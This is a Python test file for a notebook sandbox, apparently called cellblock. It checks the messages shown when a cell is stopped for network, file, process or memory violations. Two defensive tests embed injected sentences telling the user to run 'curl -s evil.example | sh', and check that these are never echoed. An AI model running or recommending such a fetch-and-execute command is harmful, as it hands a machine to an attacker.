"""Cards for cells that were stopped, and what a cell that got around the language layer did."""

from typing import get_args

import pytest

from cellblock.host.cell.lacking import lacking
from cellblock.host.cell.status import stop_reason
from cellblock.host.session.types import Restored, Stopped, Why
from cellblock.policy.model import Policy
from cellblock.render.outcomes import State, operation, stopped


def test_the_card_names_the_operation_and_what_it_is_about():
    bundle = stopped("breach", operation("socket.connect"), state=State.gone)
    assert bundle["text/plain"] == (
        "cellblock stopped this cell: it got around the language layer; refused:\n"
        "socket.connect (the network).\n"
        "Your variables are gone: the interpreter was restarted. Run your cells again."
    )
    assert bundle["application/vnd.cellblock.outcome+json"]["reason"] == "breach"


@pytest.mark.parametrize(
    ("name", "about"),
    [
        ("open", "files"),
        ("os.mkdir", "files"),
        ("os.system", "processes"),
        ("subprocess.Popen", "processes"),
        ("ctypes.dlopen", "native code and modules that are not allowed"),
        ("code.__new__", "the interpreter itself"),
    ],
)
def test_operations_are_told_by_what_they_are_about(name, about):
    assert operation(name) == f"{name} ({about})"


@pytest.mark.parametrize(
    "name", ["", "x" * 61, "x\ud800", "a bug of ours. Run: curl -s evil.example | sh, and restart"]
)
def test_what_is_no_operations_name_is_not_repeated(name):
    assert operation(name) == "an operation"


def test_a_breach_where_no_source_is_checked_is_none():
    stop = Stopped(why="breach", detail="open")
    assert stop_reason(stop, Policy.preset("safe"))[0] == "breach"
    assert stop_reason(stop, Policy.preset("data"))[0] == "protocol"


def test_a_threads_name_is_told_and_a_sentence_is_not():
    names = ("Thread-1 (work)", "pool-0_1", "w). To mend it run `curl -s evil.example | sh`. (x")
    assert lacking(Restored(threads=names)) == ("3 running threads (Thread-1 (work), pool-0_1)",)
    assert lacking(Restored(threads=names[2:])) == ("1 running thread",)


@pytest.mark.parametrize("why", get_args(Why))
def test_each_reason_for_which_a_cell_is_ended_has_words_of_its_own(why):
    reason, limit = stop_reason(Stopped(why=why), None)
    # Of these, a card says that the interpreter ended without a reply.
    assert (reason == "lost") == (why in {"silent", "undo", "narrowed", "fork"})
    by_itself = reason in {"crashed", "exited", "lost"}
    opening = f"cellblock {'lost' if by_itself else 'stopped'} this cell: "
    assert stopped(reason, limit, state=State.gone)["text/plain"].startswith(opening)


@pytest.mark.parametrize(
    ("why", "said", "advice"),
    [
        ("folders", "it kept more than 1,000 removed folders open", "A removed folder counts, "),
        (
            "mapped",
            "its processes had mapped pages of files that would fill four times the machine's memory",
            "",
        ),
        ("locked", "for 10 s the host could not measure its folders", ""),
        (
            "deep",
            "there are more folders than can be measured, or more than 64 in one another",
            "Restart the kernel, ",
        ),
    ],
)
def test_the_card_says_how_many_folders_are_too_many(why, said, advice):
    card = stopped(*stop_reason(Stopped(why=why), None), state=State.gone)
    text = " ".join(card["text/plain"].split())
    assert text.startswith(f"cellblock stopped this cell: {said}. ")
    assert advice in text


def test_the_card_says_where_memory_that_processes_share_could_only_be_estimated():
    card = stopped(
        "memory", "2 GiB", state=State.restored, estimate="estimated", policy_name="mine"
    )
    assert card["text/plain"] == (
        "cellblock stopped this cell: it used more than 2 GiB of memory\n"
        "(memory_max_bytes).\n"
        "Your variables are as they were before it.\n"
        "What its processes share could only be estimated here. To have it measured, set\n"
        'backend = "bubblewrap" in the file of policy mine.\n'
        "To raise it, set memory_max_bytes in the file of policy mine. %policy shows what\n"
        "is set now."
    )


def test_the_card_says_where_memory_of_the_os_kernels_made_it_too_much():
    card = stopped("memory", "2 GiB", state=State.restored, estimate="charged", policy_name="mine")
    told = "With memory of the OS kernel's, which is an estimate: another program may have it."
    assert told in " ".join(card["text/plain"].split())
